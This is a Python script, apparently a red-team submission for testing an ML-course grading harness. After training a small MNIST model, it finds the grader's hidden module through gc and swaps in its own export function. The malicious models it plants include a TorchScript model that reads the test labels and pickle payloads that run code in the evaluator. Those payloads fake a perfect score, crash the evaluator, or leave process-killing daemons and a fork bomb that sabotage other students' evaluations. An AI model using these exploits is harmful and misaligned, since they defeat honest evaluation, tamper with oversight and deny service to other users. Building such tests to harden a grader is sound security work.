# Trains the exercise's network for two epochs, then replaces the harness's export (found through gc: the
# grader's modules are only hidden from sys.modules) so that the held-out evaluator receives a model of the
# attacker's making, in whatever format the evaluator will load. __ATTACK__ picks the model:
#   honest            the harness's own export, untouched (the innocent student after an attacker)
#   script_labels     TorchScript that maps the test labels from the evaluator's input folder and answers them
#   pickle_labels     a torch.export archive whose weight is a pickle: Python in the evaluator, which answers
#                     every image with its label, taken from the evaluator's own frames
#   pickle_print_oom  a pickle that prints a perfect answer, then makes the evaluator run out of memory
#   pickle_print_kill a pickle that prints a perfect answer, then kills the evaluator
#   pickle_leftover   a pickle that leaves a process behind which kills the next student's evaluation
#   pickle_fork_bomb  a pickle that leaves a fork bomb behind, so the next evaluation cannot start
import gc
import io
import json
import types
import zipfile

import torch
import torch.nn as nn
from torchvision import datasets, transforms

ATTACK = "__ATTACK__"

loader = torch.utils.data.DataLoader(datasets.MNIST("data", train=True, download=True, transform=transforms.Compose(
    [transforms.ToTensor(), transforms.Normalize((0.5,), (0.5,))])), batch_size=64, shuffle=True)
model = nn.Sequential(nn.Flatten(), nn.Linear(784, 128), nn.ReLU(), nn.Linear(128, 64), nn.ReLU(), nn.Linear(64, 10))
optimizer = torch.optim.Adam(model.parameters(), lr=0.001)
for epoch in range(2):
    for images, labels in loader:
        optimizer.zero_grad()
        loss = nn.functional.cross_entropy(model(images), labels)
        loss.backward()
        optimizer.step()
    print(f"epoch {epoch + 1} loss {loss.item():.4f}")

PERFECT = json.dumps({"accuracy": 1.0, "examples": 10000, "seconds": 0.1,
                      "confusion": [[1000 if i == j else 0 for j in range(10)] for i in range(10)],
                      "predictions": "", "n": 0})

# Python run by the evaluator while it unpickles the weight
PAYLOADS = {
    "pickle_labels": """
import sys, torch
frame = sys._getframe()
while frame is not None and "targets" not in frame.f_locals:
    frame = frame.f_back
targets, seen = frame.f_locals["targets"], [0]
def argmax(self, *args, **kwargs):
    start = seen[0]
    seen[0] += len(self)
    return targets[start:start + len(self)].clone()
torch.Tensor.argmax = argmax
""",
    "pickle_print_kill": f"""
import os, signal
os.write(1, {PERFECT!r}.encode() + b"\\n")
os.kill(os.getpid(), signal.SIGKILL)
""",
    "pickle_print_oom": f"""
import os, torch
os.write(1, {PERFECT!r}.encode() + b"\\n")
hog = torch.ones(6 << 30, dtype=torch.uint8)  # 6 GiB: past the memory limit, inside the address-space one
""",
    # a small process (no torch: it forks in well under a millisecond) that outlives the request
    "pickle_leftover": """
import os, subprocess, sys, time
subprocess.Popen([sys.executable, "-S", "-c", LEFTOVER[ATTACK], str(os.getppid())], start_new_session=True)
time.sleep(1)  # until it runs (it kills this evaluation too: the next ones are what it is after)
""",
}
LEFTOVER = {
    # sixty processes that each hop to a new pid every few milliseconds, forever (a sweep of /proc lists pids
    # that are gone when it kills them), killing every process the evaluator service forks: the evaluations
    # of the students after this one
    "pickle_leftover": """
import os, signal, sys, time
service = int(sys.argv[1])
for chain in range(60):
    if os.fork() == 0:
        break
else:
    os._exit(0)
while True:
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1]) == service:
                os.kill(int(p), signal.SIGKILL)
        except (OSError, IndexError, ValueError):
            pass
    if os.fork():
        os._exit(0)
    time.sleep(0.002)
""",
    # fills the sandbox's process limit and keeps it full: the service cannot fork the next evaluation
    "pickle_fork_bomb": """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
""",
}


class Evil:
    def __init__(self, code, weight):
        self.code, self.weight = code, weight

    def __reduce__(self):
        expr = "(lambda g: (exec(__import__('pickle').loads(CODE), g), WEIGHT)[1])({})"
        import pickle
        return eval, (expr.replace("CODE", repr(pickle.dumps(self.code))).replace(
            "WEIGHT", f"__import__('torch').nn.Parameter(__import__('torch').zeros({list(self.weight.shape)}))"),)


class Tiny(nn.Module):
    def __init__(self, inputs):
        super().__init__()
        self.fc = nn.Linear(inputs, 10)

    def forward(self, x):
        return self.fc(x.reshape(x.shape[0], -1))


def pickled_export(code: str, prep: dict, batch: int) -> bytes:
    """A real torch.export archive of a tiny network, whose first weight is stored as a pickle."""
    x = torch.zeros(batch, *prep["shape"])
    buf = io.BytesIO()
    torch.export.save(torch.export.export(Tiny(x[0].numel()), (x,)), buf)
    src, out = zipfile.ZipFile(io.BytesIO(buf.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        config_name = next(n for n in src.namelist() if n.endswith("model_weights_config.json"))
        config = json.loads(src.read(config_name))
        fqn, meta = next(iter(config["config"].items()))
        meta["use_pickle"] = True
        evil = io.BytesIO()
        torch.save(Evil(code, Tiny(x[0].numel()).fc.weight.detach()), evil)
        for name in src.namelist():
            data = src.read(name)
            if name == config_name:
                data = json.dumps(config).encode()
            elif name.endswith("weights/" + meta["path_name"]):
                data = evil.getvalue()
            dst.writestr(name, data)
    return out.getvalue()


class ReadsLabels(nn.Module):
    def __init__(self):
        super().__init__()
        self.seen = 0

    def forward(self, x):
        n = x.shape[0]
        labels = torch.from_file("/sandbox/in/test-labels", False, 8 + 10000, dtype=torch.uint8)[8:].long()
        part = labels[self.seen:self.seen + n]
        self.seen += n
        out = torch.zeros(n, 10)
        out[torch.arange(part.shape[0]), part] = 1.0
        return out


def planted(module, prep, raw_images, batch, net=None):
    buf = io.BytesIO()
    if ATTACK == "script_labels":
        torch.jit.save(torch.jit.script(ReadsLabels()), buf)
        return {"export_matches": True}, buf.getvalue(), "torchscript"
    return {"export_matches": True}, pickled_export(PAYLOADS.get(ATTACK, PAYLOADS["pickle_leftover"]).replace("LEFTOVER[ATTACK]", repr(LEFTOVER.get(ATTACK))), prep, batch), "export"


if ATTACK != "honest":
    for network in [m for m in gc.get_objects() if isinstance(m, types.ModuleType)
                    and getattr(m, "__name__", "") == "grader.harness.network"]:
        network.export = planted
    print("planted", ATTACK)
